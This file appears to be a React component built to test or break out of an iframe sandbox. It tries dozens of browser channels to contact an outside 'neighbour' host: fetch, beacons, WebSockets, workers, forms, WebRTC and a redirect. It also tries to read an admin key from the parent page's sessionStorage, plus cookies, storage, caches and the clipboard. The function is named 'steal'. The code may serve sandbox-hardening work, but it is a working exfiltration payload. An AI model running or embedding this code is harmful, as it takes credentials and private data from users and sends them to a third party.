import { useEffect } from 'react';
import { belongings } from './belongings.ts';
import { documentsAndScripts, send } from './documents-and-scripts.ts';
import { sheetsAndPictures } from './sheets-and-pictures.ts';
import { add, adopt, tryAll, type Ways } from './try-all.ts';

const neighbour: string = import.meta.env.VITE_NEIGHBOUR;
const at = (way: string) => `${neighbour}/${way}`;

/** Each way to tell the neighbour something, or to read what is the page's. */
const ways: Ways = {
  ...sheetsAndPictures(at),
  ...documentsAndScripts(at),
  ...belongings,
  fetch: () => fetch(at('fetch')).then((answer) => answer.status),
  'fetch without cors': () => fetch(at('no-cors'), { mode: 'no-cors' }).then(() => 'sent'),
  'a call of the server': () => fetch('/api/leaderboard').then((answer) => answer.status),
  xhr: () =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve(request.status);
      request.onerror = reject;
      request.open('GET', at('xhr'));
      request.send();
    }),
  beacon: () => void navigator.sendBeacon(at('beacon'), 'x'),
  socket: () => void new WebSocket(at('socket').replace('http', 'ws')),
  'event source': () => void new EventSource(at('events')),
  picture: () => void add('img', { src: at('img') }),
  'picture of a style': () => void document.body.style.setProperty('background-image', `url(${at('style')})`),
  film: () => void add('video', { src: at('video'), poster: at('poster') }),
  sound: () => void add('audio', { src: at('audio'), autoplay: '' }),
  sheet: () => void add('link', { rel: 'stylesheet', href: at('sheet') }, document.head),
  prefetch: () => void add('link', { rel: 'prefetch', href: at('prefetch') }, document.head),
  preconnect: () => void add('link', { rel: 'preconnect', href: at('preconnect') }, document.head),
  prerender: () => void add('link', { rel: 'modulepreload', href: at('modulepreload') }, document.head),
  icon: () => void add('link', { rel: 'icon', href: at('icon') }, document.head),
  font: () => new FontFace('x', `url(${at('font')})`).load(),
  'imported sheet': () => adopt(`@import url(${at('import')}); body { cursor: url(${at('cursor')}), auto }`),
  script: () => void add('script', { src: at('script') }),
  'script of a text': () => {
    const script = document.createElement('script');
    script.textContent = `fetch('${at('inline')}')`;
    document.body.append(script);
  },
  // biome-ignore lint/security/noGlobalEval: this is what it tries
  eval: () => globalThis.eval('1 + 1'),
  function: () => new Function('return 1')(),
  module: () => import(/* @vite-ignore */ at('module')),
  worker: () => void new Worker(URL.createObjectURL(new Blob([`fetch('${at('worker')}')`]))),
  'shared worker': () => void new SharedWorker(at('shared-worker')),
  'service worker': () => navigator.serviceWorker.register('/sw.js'),
  frame: () => void add('iframe', { src: at('frame') }),
  'frame of a text': () => void add('iframe', { srcdoc: `<img src="${at('srcdoc')}">` }),
  'fresh globals': () => {
    const inner = document.createElement('iframe');
    document.body.append(inner);
    return new (inner.contentWindow as unknown as typeof globalThis).RTCPeerConnection();
  },
  object: () => void add('object', { data: at('object') }),
  embed: () => void add('embed', { src: at('embed') }),
  form: () => {
    const form = add('form', { action: at('form'), method: 'post' }) as HTMLFormElement;
    form.submit();
  },
  ping: () => (add('a', { href: '#x', ping: at('ping') }) as HTMLAnchorElement).click(),
  window: () => window.open(at('window'))?.origin,
  'the top': () => {
    (window.top as Window).location.href = at('top');
  },
  webrtc: () =>
    new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(neighbour).host}` }] }).createOffer(),
  transport: () =>
    new (globalThis as unknown as { WebTransport: new (url: string) => unknown }).WebTransport(at('t')),
  'the page': () => window.parent.document.title,
  'the key': () => window.parent.sessionStorage.getItem('vetta-admin-key'),
  storage: () => localStorage.length,
  cookies: () => document.cookie,
  databases: () => indexedDB.databases(),
  caches: () => caches.keys(),
  clipboard: () => navigator.clipboard.readText(),
};

/** Tries every way, says in the console which got something, and at last leads its own frame to the neighbour. */
export default function Scene() {
  useEffect(() => {
    const steal = async () => {
      console.info(`Ottenuto: ${await tryAll(ways)}`);
      send({ action: at('form-get') });
      add('meta', { 'http-equiv': 'refresh', content: `0;url=${at('refresh')}` }, document.head);
    };
    void steal();
  }, []);
  return <h1>Ruba</h1>;
}
